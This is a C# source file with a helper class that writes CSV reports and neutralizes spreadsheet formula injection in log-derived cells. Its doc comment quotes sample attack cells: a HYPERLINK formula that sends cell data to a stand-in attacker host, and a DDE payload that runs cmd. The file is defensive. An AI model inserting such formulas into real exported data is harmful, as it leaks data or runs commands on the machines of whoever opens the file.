using System;
using System.Collections.Generic;
using System.Globalization;
using System.Text;
using System.Text.RegularExpressions;

namespace LowSlowExfil.Reporting
{
    /// <summary>
    /// CSV for spreadsheets, safe from formula injection ("CSV injection"): user names, hosts and operations come
    /// from logs an attacker can write to, and a cell such as <c>=HYPERLINK("https://evil.example/?"&amp;A1,"open")</c>
    /// or <c>@SUM(1+1)*cmd|' /C calc'!A0</c> is run as a formula when the CSV is opened in Excel, LibreOffice or
    /// Google Sheets. A cell that starts with <c>=</c>, <c>+</c>, <c>-</c>, <c>@</c>, a tab or a carriage return, and is
    /// not a plain number, is written with a leading single quote (OWASP's advice), which spreadsheets show as text and
    /// hide. Only the written cell changes: the objects in the pipeline keep their values as the logs had them.
    /// </summary>
    public static class SpreadsheetCsv
    {
        private static readonly Regex PlainNumber = new Regex(@"^[+-]?([0-9]+(\.[0-9]*)?|\.[0-9]+)([eE][+-]?[0-9]+)?$", RegexOptions.CultureInvariant);

        /// <summary>True when a spreadsheet would take the cell for a formula (or DDE command).</summary>
        public static bool IsFormulaLike(string cell)
        {
            if (string.IsNullOrEmpty(cell)) return false;
            switch (cell[0])
            {
                case '=':
                case '+':
                case '-':
                case '@':
                case '\t':
                case '\r':
                    return !PlainNumber.IsMatch(cell);
                default:
                    return false;
            }
        }

        /// <summary>The cell as a spreadsheet shows it as text: a single quote before a formula-like cell.</summary>
        public static string Neutralize(string cell) => IsFormulaLike(cell) ? "'" + cell : cell;

        /// <summary>One CSV field, always double-quoted (as Export-Csv writes), quotes doubled.</summary>
        public static string Quote(string cell) => "\"" + (cell ?? string.Empty).Replace("\"", "\"\"") + "\"";

        /// <summary>One CSV line (no line break) of <paramref name="cells"/>, neutralized unless <paramref name="raw"/>.</summary>
        public static string Line(IEnumerable<string> cells, bool raw)
        {
            var sb = new StringBuilder();
            foreach (string c in cells)
            {
                if (sb.Length > 0) sb.Append(',');
                sb.Append(Quote(raw ? c : Neutralize(c)));
            }
            return sb.ToString();
        }

        /// <summary>A property value as a cell: invariant culture, round-trip for reals, collections by their own ToString.</summary>
        public static string Cell(object value)
        {
            switch (value)
            {
                case null: return string.Empty;
                case string s: return s;
                case DateTime d: return d.ToString("o", CultureInfo.InvariantCulture);
                case double x: return x.ToString("R", CultureInfo.InvariantCulture);
                case float f: return f.ToString("R", CultureInfo.InvariantCulture);
                case IFormattable f: return f.ToString(null, CultureInfo.InvariantCulture);
                default: return value.ToString();
            }
        }
    }
}
